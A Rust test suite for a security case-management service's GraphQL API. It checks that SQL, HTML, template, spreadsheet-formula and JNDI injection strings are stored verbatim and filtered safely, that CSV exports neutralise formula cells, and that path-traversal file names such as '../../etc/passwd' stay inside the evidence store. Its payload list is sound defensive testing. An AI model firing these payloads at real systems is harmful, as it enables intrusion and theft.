//! Injection text (SQL, HTML, spreadsheet formulas, template syntax) is data: where a
//! field accepts it, it is stored and returned exactly as sent; in filters it matches only
//! what holds it; in the exported CSV a formula cell is prefixed so spreadsheets show it as
//! text; a file name of `../../etc/passwd` writes nothing outside the evidence store.

use serde_json::{Value, json};

use super::{harmless, operation};
use crate::common::TestApp;
use crate::common::fixtures::detection;

/// Text an attacker hopes some layer runs.
pub const PAYLOADS: [&str; 12] = [
    "'; drop table cases; --",
    "\" OR \"1\"=\"1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "%_\\%",
    "${jndi:ldap://x.test/a}",
    "{{7*7}} <%= 7*7 %>",
    "Robert'); DELETE FROM events WHERE ('1'='1",
];

/// Runs an operation as the admin and returns `data`, failing on any error or harm.
async fn ok(app: &TestApp, query: &str, variables: Value) -> Value {
    let answer = operation(app, query, variables.clone()).await.expect("an answer");
    harmless(&answer, &variables.to_string()).expect("harmless");
    let body = answer.json();
    assert!(body.get("errors").is_none(), "{query} {variables}: {body}");
    body["data"].clone()
}

#[tokio::test]
async fn injection_text_in_every_text_field_is_stored_and_returned_verbatim() {
    let app = TestApp::new().await;
    for (i, payload) in PAYLOADS.iter().enumerate() {
        // A case name has a narrow alphabet: a payload outside it is refused on `name`,
        // and the case is named plainly instead.
        let name = case_name(&app, payload, i).await;
        let created = ok(
            &app,
            "mutation($n: String!, $d: String) { createCase(input: { name: $n, description: $d }) \
             { case { id name description } } }",
            json!({ "n": name, "d": payload }),
        )
        .await;
        let case = &created["createCase"]["case"];
        assert_eq!(case["name"], json!(name));
        assert_eq!(case["description"], json!(payload));
        let id = case["id"].clone();
        let posted = ok(
            &app,
            "mutation($c: ID!, $b: String!) { postMessage(input: { caseId: $c, body: $b }) \
             { message { body } } }",
            json!({ "c": id, "b": payload }),
        )
        .await;
        assert_eq!(posted["postMessage"]["message"]["body"], json!(payload));
        let read = ok(
            &app,
            "query($c: ID!) { case(id: $c) { name description messages(first: 5) \
             { edges { node { body } } } } }",
            json!({ "c": id }),
        )
        .await;
        assert_eq!(read["case"]["name"], json!(name));
        assert_eq!(read["case"]["messages"]["edges"][0]["node"]["body"], json!(payload));

        let subject = ok(
            &app,
            "mutation($u: String!, $t: String) { upsertSubject(input: { username: $u, \
             displayName: $t, department: $t, title: $t, location: $t, notes: $t, \
             watchlists: [$t] }) { subject { displayName department title location notes \
             watchlists } } }",
            json!({ "u": format!("subject-{i}@example.test"), "t": payload }),
        )
        .await;
        let subject = &subject["upsertSubject"]["subject"];
        for field in ["displayName", "department", "title", "location", "notes"] {
            assert_eq!(subject[field], json!(payload), "{field}");
        }
        assert_eq!(subject["watchlists"], json!([payload]));

        let mut d = detection(&format!("{payload} {i}"), 3);
        for field in ["ruleName", "description", "actor"] {
            d[field] = json!(payload);
        }
        d["device"] = json!({ "hostname": payload, "type": payload });
        d["file"] = json!({ "name": payload, "path": payload });
        d["riskIndicators"] = json!([{ "name": payload, "weight": 1 }]);
        let ids = app.ingest(&app.admin_token, vec![d]).await;
        let read = ok(
            &app,
            "query($d: ID!) { detection(id: $d) { externalId ruleName description actor \
             device { hostname type } file { name path } riskIndicators { name } } }",
            json!({ "d": ids[0] }),
        )
        .await;
        let found = &read["detection"];
        assert_eq!(found["externalId"], json!(format!("{payload} {i}")));
        for value in [
            &found["ruleName"],
            &found["description"],
            &found["actor"],
            &found["device"]["hostname"],
            &found["device"]["type"],
            &found["file"]["name"],
            &found["file"]["path"],
            &found["riskIndicators"][0]["name"],
        ] {
            assert_eq!(value, &json!(payload), "{found}");
        }
    }
}

/// `payload` when a case may be named so (checked with a refused or accepted
/// `createCase` whose case is then named plainly), else `Case <i>`.
async fn case_name(app: &TestApp, payload: &str, i: usize) -> String {
    let answer = operation(
        app,
        "mutation($n: String!) { createCase(input: { name: $n }) { case { id name } } }",
        json!({ "n": payload }),
    )
    .await
    .expect("an answer");
    harmless(&answer, payload).expect("harmless");
    let body = answer.json();
    match body["errors"][0]["extensions"]["code"].as_str() {
        None => {
            assert_eq!(body["data"]["createCase"]["case"]["name"], json!(payload));
            // Taken now: rename the probe so the payload is free again.
            let id = body["data"]["createCase"]["case"]["id"].clone();
            let renamed = ok(
                app,
                "mutation($id: ID!, $n: String) { updateCase(input: { id: $id, name: $n }) { case { id } } }",
                json!({ "id": id, "n": format!("Probe {i}") }),
            )
            .await;
            assert!(renamed["updateCase"]["case"]["id"].is_string());
            payload.to_owned()
        }
        Some(code) => {
            assert_eq!(code, "VALIDATION_FAILED", "{body}");
            assert_eq!(body["errors"][0]["extensions"]["field"], "name", "{body}");
            format!("Case {i}")
        }
    }
}

#[tokio::test]
async fn injection_text_in_filters_matches_only_what_holds_it() {
    let app = TestApp::new().await;
    // The names of every case there is: a payload a case may be named (and its probe,
    // renamed `Probe <i>`), or `Case <i>`.
    let mut names = vec!["an innocent case".to_owned()];
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let name = case_name(&app, payload, i).await;
        app.case_named(&name).await;
        if name == *payload {
            names.push(format!("probe {i}"));
        }
        names.push(name.to_lowercase());
        let mut d = detection(&format!("filter {payload}"), 3);
        d["ruleName"] = json!(payload);
        d["actor"] = json!(payload);
        d["device"] = json!({ "hostname": payload });
        app.ingest(&app.admin_token, vec![d]).await;
    }
    app.case_named("An innocent case").await;
    for payload in PAYLOADS {
        let holding = names.iter().filter(|n| n.contains(&payload.to_lowercase())).count();
        let cases = ok(
            &app,
            "query($p: String) { byName: cases(filter: { nameContains: $p }) { totalCount } \
             bySearch: cases(filter: { search: $p }) { totalCount } \
             bySubject: cases(filter: { subjectUsername: $p }) { totalCount } }",
            json!({ "p": payload }),
        )
        .await;
        assert_eq!(cases["byName"]["totalCount"], json!(holding), "{payload}");
        // Full-text search reads words, not the payload's text: it only has to answer.
        assert!(cases["bySearch"]["totalCount"].is_i64(), "{cases}");
        assert_eq!(cases["bySubject"]["totalCount"], 0, "{payload}");
        let detections = ok(
            &app,
            "query($p: String) { byRule: detections(filter: { ruleName: $p }) { totalCount } \
             byActor: detections(filter: { actor: $p }) { totalCount } \
             byHost: detections(filter: { deviceHostname: $p }) { totalCount } \
             bySha: detections(filter: { sha256: $p }) { totalCount } }",
            json!({ "p": payload }),
        )
        .await;
        for list in ["byRule", "byActor", "byHost"] {
            assert_eq!(detections[list]["totalCount"], 1, "{list} {payload}");
        }
        assert_eq!(detections["bySha"]["totalCount"], 0, "{payload}");
        let others = ok(
            &app,
            "query($p: String) { subjects(filter: { usernameContains: $p, department: $p, \
             watchlist: $p }) { totalCount } auditEvents(filter: { action: $p }) { totalCount } }",
            json!({ "p": payload }),
        )
        .await;
        assert_eq!(others["subjects"]["totalCount"], 0, "{payload}");
        assert_eq!(others["auditEvents"]["totalCount"], 0, "{payload}");
    }
    // Every case is still there.
    let all = ok(&app, "{ cases(filter: { status: [NEW] }) { totalCount } }", json!({})).await;
    assert_eq!(all["cases"]["totalCount"], names.len());
}

#[tokio::test]
async fn formula_cells_of_every_text_column_are_neutralised_in_the_csv_export() {
    let app = TestApp::new().await;
    let formulas: Vec<&str> =
        PAYLOADS.iter().copied().filter(|p| p.starts_with(['=', '+', '-', '@'])).collect();
    let mut inputs = Vec::new();
    for (i, formula) in formulas.iter().enumerate() {
        let mut d = detection(&format!("{formula}{i}"), 3);
        d["ruleName"] = json!(formula);
        d["actor"] = json!(formula);
        d["device"] = json!({ "hostname": formula });
        d["file"] = json!({ "name": formula, "path": formula });
        d["riskIndicators"] = json!([{ "name": formula, "weight": 1 }]);
        inputs.push(d);
    }
    let ids = app.ingest(&app.admin_token, inputs).await;
    let case = app
        .create_case(&app.admin_token.clone(), json!({ "name": "Formulas", "detectionIds": ids }))
        .await;
    let number = case["number"].as_i64().expect("number");
    let response = app
        .http
        .get(app.url(&format!("/cases/{number}/export?parts=fileActivity")))
        .bearer_auth(&app.admin_token)
        .send()
        .await
        .expect("export");
    assert_eq!(response.status(), 200);
    let bytes = response.bytes().await.expect("the CSV");
    let mut reader = csv::Reader::from_reader(bytes.as_ref());
    let header: Vec<String> =
        reader.headers().expect("a header").iter().map(str::to_owned).collect();
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
    assert_eq!(rows.len(), formulas.len());
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
        }
        let rule = &row[column("ruleName")];
        let formula = rule.strip_prefix('\'').expect("the rule name is prefixed");
        assert!(formulas.contains(&formula), "{rule}");
        for name in ["actor", "deviceHostname", "fileName", "filePath"] {
            assert_eq!(&row[column(name)], rule, "{name}");
        }
        assert!(row[column("externalId")].starts_with(&format!("'{formula}")));
        assert_eq!(row[column("riskIndicators")], format!("'{formula} (1)"));
    }
}

#[tokio::test]
async fn an_evidence_file_named_like_a_path_is_stored_in_the_evidence_store_only() {
    let app = TestApp::new().await;
    let names = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "a/../../../b"];
    let mut inputs = Vec::new();
    for (i, name) in names.iter().enumerate() {
        let mut d = detection(&format!("traversal-{i}"), 3);
        d["file"] = json!({ "name": name, "path": name });
        inputs.push(d);
    }
    let ids = app.ingest(&app.admin_token, inputs).await;
    let before = walk(app.data_dir.path());
    for (i, id) in ids.iter().enumerate() {
        let response = app
            .http
            .put(app.url(&format!("/detections/{id}/file")))
            .bearer_auth(&app.admin_token)
            .header("x-file-name", names[i])
            .body(format!("contents {i}"))
            .send()
            .await
            .expect("upload");
        assert_eq!(response.status(), 201, "{}", names[i]);
        let download = app
            .http
            .get(app.url(&format!("/detections/{id}/file")))
            .bearer_auth(&app.admin_token)
            .send()
            .await
            .expect("download");
        let disposition =
            download.headers()["content-disposition"].to_str().expect("ASCII").to_owned();
        assert!(!disposition.contains('/') && !disposition.contains('\\'), "{disposition}");
        assert_eq!(download.text().await.expect("contents"), format!("contents {i}"));
    }
    // Every file the uploads wrote is under the evidence folder of the data directory,
    // and nothing is where a relative name would lead out of it.
    let evidence = app.data_dir.path().join("evidence");
    let written: Vec<_> =
        walk(app.data_dir.path()).into_iter().filter(|f| !before.contains(f)).collect();
    assert!(written.len() >= names.len(), "{written:?}");
    for file in written {
        assert!(file.starts_with(&evidence), "a file outside the evidence store: {file:?}");
    }
    for name in names.iter().filter(|n| !n.starts_with('/')) {
        let lead = evidence.join(name);
        assert!(!lead.exists(), "{name} led to {lead:?}");
    }
}

/// The files under `root`, sorted.
fn walk(root: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    let mut folders = vec![root.to_owned()];
    while let Some(folder) = folders.pop() {
        let Ok(entries) = std::fs::read_dir(&folder) else { continue };
        for entry in entries.flatten() {
            let path = entry.path();
            match entry.file_type() {
                Ok(t) if t.is_dir() => folders.push(path),
                Ok(_) => found.push(path),
                Err(_) => {}
            }
        }
    }
    found.sort();
    found
}
